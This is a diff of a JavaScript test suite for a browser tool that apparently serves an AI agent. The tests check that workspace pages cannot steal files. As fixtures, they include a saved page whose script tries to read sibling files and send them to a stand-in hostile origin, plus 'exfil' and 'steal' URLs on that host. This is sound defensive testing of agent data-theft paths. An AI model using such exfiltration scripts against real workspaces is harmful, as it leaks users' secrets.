@@ -83,6 +83,17 @@ describe("browser workspace exfiltration", () => {
     }
   });
 
+  test("a foreign page cannot fetch, XHR or frame workspace files", async () => {
+    const before = evil.received.length;
+    await ok(c, "navigate", { url: `${evil.origin}/steal` });
+    const deadline = Date.now() + 10_000;
+    while (evil.received.length === before && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+    const sent = evil.received.slice(before).join("\n");
+    assert.match(sent, /fetch failed/, `the page ran its reads and sent what it got: ${sent.slice(0, 300)}`);
+    await assertNothingStolen(0);
+    await assertNoTabShowsSecret();
+  });
+
   test("a redirect from a foreign site into the workspace is refused, for the tool and for a page", async () => {
     const viaTool = await call(c, "browser_navigate", { url: `${evil.origin}/redirect?to=${encodeURIComponent("/secret.txt")}` });
     assert.doesNotMatch(textOf(viaTool), new RegExp(SECRET));
@@ -93,16 +104,18 @@ describe("browser workspace exfiltration", () => {
     await assertNothingStolen(0);
   });
 
-  test("a page the agent saved in the workspace runs but cannot read its siblings or send them out", async () => {
+  test("a page the agent saved in the workspace runs but cannot read its siblings, and sends nothing anywhere", async () => {
+    const before = evil.received.length;
     write("saved/page.html", `<!doctype html><title>Saved</title><body><p>saved earlier</p><script>${stealScript(evil.origin, STOLEN.map((f) => `..${f}`))}</script>`);
     await ok(c, "navigate", { url: fileUrl("saved/page.html") });
     await ok(c, "wait_for", { time: 3 });
     await assertNothingStolen();
     await assertNoTabShowsSecret();
-    assert.ok(
-      evil.received.some((r) => /fetch failed/.test(r)),
-      `the page's script ran, failed to read, and what it could send shows it: ${JSON.stringify(evil.received)}`,
-    );
+    const messages = textOf(await ok(c, "console_messages"));
+    assert.match(messages, /stolen: fetch failed.*xhr failed.*frame failed/s, "the page's script ran and every read failed");
+    assert.doesNotMatch(messages, new RegExp(SECRET));
+    assert.deepEqual(evil.received.slice(before), [], "not even the failures reached the hostile site (beacon, fetch, image, popup, location)");
+    assert.match(textOf(await ok(c, "snapshot")), /A workspace page may not open other sites/);
   });
 
   test("the agent's own HTML report renders with its image, style and scripts, and its links work", async () => {
@@ -115,7 +128,7 @@ describe("browser workspace exfiltration", () => {
       "report/index.html",
       `<!doctype html><title>Report</title><link rel="stylesheet" href="style.css"><h1>Results</h1>
        <img id="plot" src="plot.png" alt="plot"><p id="fromjs">no script</p><p id="inline"></p>
-       <a href="details.html">details</a><a href="../report/">folder</a>
+       <a href="details.html">details</a><a href="../report/">folder</a><a href="${evil.origin}/exfil?d=clicked">elsewhere</a>
        <script src="app.js"></script><script>document.getElementById('inline').textContent = 'inline ran';</script>`,
     );
     const snap = textOf(await ok(c, "navigate", { url: fileUrl("report/index.html") }));
@@ -129,5 +142,12 @@ describe("browser workspace exfiltration", () => {
     const listing = textOf(await ok(c, "click", { ref: refOf(again, 'link "folder"') }));
     assert.match(listing, /link "plot\.png"/);
     assert.match(textOf(await ok(c, "click", { ref: refOf(listing, 'link "details.html"') })), /more details/);
+    // leaving the workspace is the tool's call, not the page's
+    const report = textOf(await ok(c, "navigate", { url: fileUrl("report/index.html") }));
+    const before = evil.received.length;
+    assert.match(textOf(await ok(c, "click", { ref: refOf(report, 'link "elsewhere"') })), /A workspace page may not open other sites; open .* with browser_navigate/);
+    assert.deepEqual(evil.received.slice(before), []);
+    await call(c, "browser_navigate", { url: `${evil.origin}/exfil?d=by-the-tool` }); // a 204: Chromium reports the navigation aborted
+    assert.match(evil.received.at(-1) ?? "", /by-the-tool/);
   });
 });
